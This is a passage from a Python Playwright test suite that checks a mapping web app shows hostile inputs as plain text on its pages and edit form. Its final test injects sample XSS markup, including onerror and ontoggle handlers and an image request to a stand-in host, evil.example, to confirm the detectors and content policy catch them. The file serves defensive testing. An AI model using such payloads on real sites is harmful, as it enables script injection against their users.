    page.locator(f'#event-list [data-event="{EVENT}"]').click()
    expect(page.locator("#details-body .event-card")).to_be_visible()
    expect(page.locator("#details-body .loading-sources")).to_have_count(0)
    tab.assert_text("event card", EVENT_CARD_FIELDS, "#details-body")
    tab.poke("#event-list")
    tab.poke("#details-body")
    tab.assert_safe("map with the movement and event cards")


@pytest.mark.parametrize("path", list(PUBLIC_PAGES))
def test_each_public_page_shows_the_payloads_as_text(tab: Tab, path: str) -> None:
    page = tab.open(path)
    page.wait_for_load_state("load")
    if path == f"/sites/{SITE}":
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=ARTIFACTS / "xss-site-page.png")
        expect(page.locator("h1")).to_have_text(HOSTILE["site.name"])
        # The name is written into attributes too: it must arrive there whole, as a value.
        site_map = page.locator("#site-map")
        assert site_map.get_attribute("data-name") == HOSTILE["site.name"]
        assert site_map.get_attribute("aria-label") == f"Map of {HOSTILE['site.name']}"
    tab.assert_text(path, PUBLIC_PAGES[path])
    tab.poke("main")
    tab.assert_safe(path)
    # The 10 000-character word in the site's description must wrap, not widen the page.
    tab.assert_no_overflow(path)


@pytest.mark.parametrize("template", list(EDITOR_PAGES))
def test_each_review_page_shows_the_payloads_as_text(
    editor_tab: Tab, world: World, template: str
) -> None:
    path = world.path(template)
    editor_tab.open(path)
    editor_tab.page.wait_for_load_state("load")
    expect(editor_tab.page.locator(".account-name")).to_contain_text("eddie")
    editor_tab.assert_text(path, EDITOR_PAGES[template])
    editor_tab.poke("main")
    editor_tab.assert_safe(path)
    editor_tab.assert_no_overflow(path)


def test_the_edit_form_prefills_the_payloads_as_values(editor_tab: Tab) -> None:
    path = f"/propose/site/{SITE}"
    page = editor_tab.open(path)
    for column in ("name", "aliases", "admin1", "description"):
        value = page.locator(f"#record-{column}").input_value()
        assert value == HOSTILE[f"site.{column}"], _label(f"site.{column}")
    editor_tab.poke("main")
    editor_tab.assert_safe(path)
    editor_tab.assert_no_overflow(path)


def test_the_preview_map_shows_the_proposed_payloads_as_text(editor_tab: Tab, world: World) -> None:
    path = f"/?date={DATE}&preview={world.proposed}"
    page = editor_tab.open(path)
    assert editor_tab.errors == [], f"the preview map could not load its data: {editor_tab.errors}"
    entry = page.locator(f'#site-list [data-site="{SITE}"]')
    expect(entry.locator(".entry-title")).to_have_text(HOSTILE["proposed.site_name"])
    entry.click()
    popup = page.locator(".leaflet-popup-content")
    expect(popup.locator(".card-title")).to_have_text(HOSTILE["proposed.site_name"])
    expect(popup.locator(".loading-sources")).to_have_count(0)
    editor_tab.assert_text(
        "preview popup",
        ["proposed.site_name", "proposed.strength", "proposed.note"],
        ".leaflet-popup-content",
    )
    editor_tab.poke(".leaflet-popup-content")
    editor_tab.assert_safe(path)


def test_the_detectors_catch_markup_that_does_get_in(tab: Tab) -> None:
    """The checks above can fail: markup injected by hand is found, and the policy blocks it."""
    page = tab.open("/about")
    page.evaluate(
        """() => document.querySelector("main").insertAdjacentHTML(
          "beforeend",
          '<img src=x onerror="window.__xss=1"><details open ontoggle="window.__xss=1"></details>'
            + '<img src="https://evil.example/pixel.gif"><style>main{color:red}</style>'
        )"""
    )
    page.wait_for_function("window.__violations.length > 0")
    page.wait_for_timeout(250)
    injected = page.evaluate(FIND_INJECTED)
    assert any("onerror" in p for p in injected), injected
    assert any("ontoggle" in p for p in injected), injected
    assert any(p.startswith("element <style") for p in injected), injected
    assert any(url.endswith("/x") for url in tab.suspicious_requests()), tab.requests
    assert any("evil.example" in url for url in tab.suspicious_requests()), tab.requests
    assert page.evaluate("typeof window.__xss") == "undefined"  # the policy held
    with pytest.raises(AssertionError):
        tab.assert_safe("/about with injected markup")
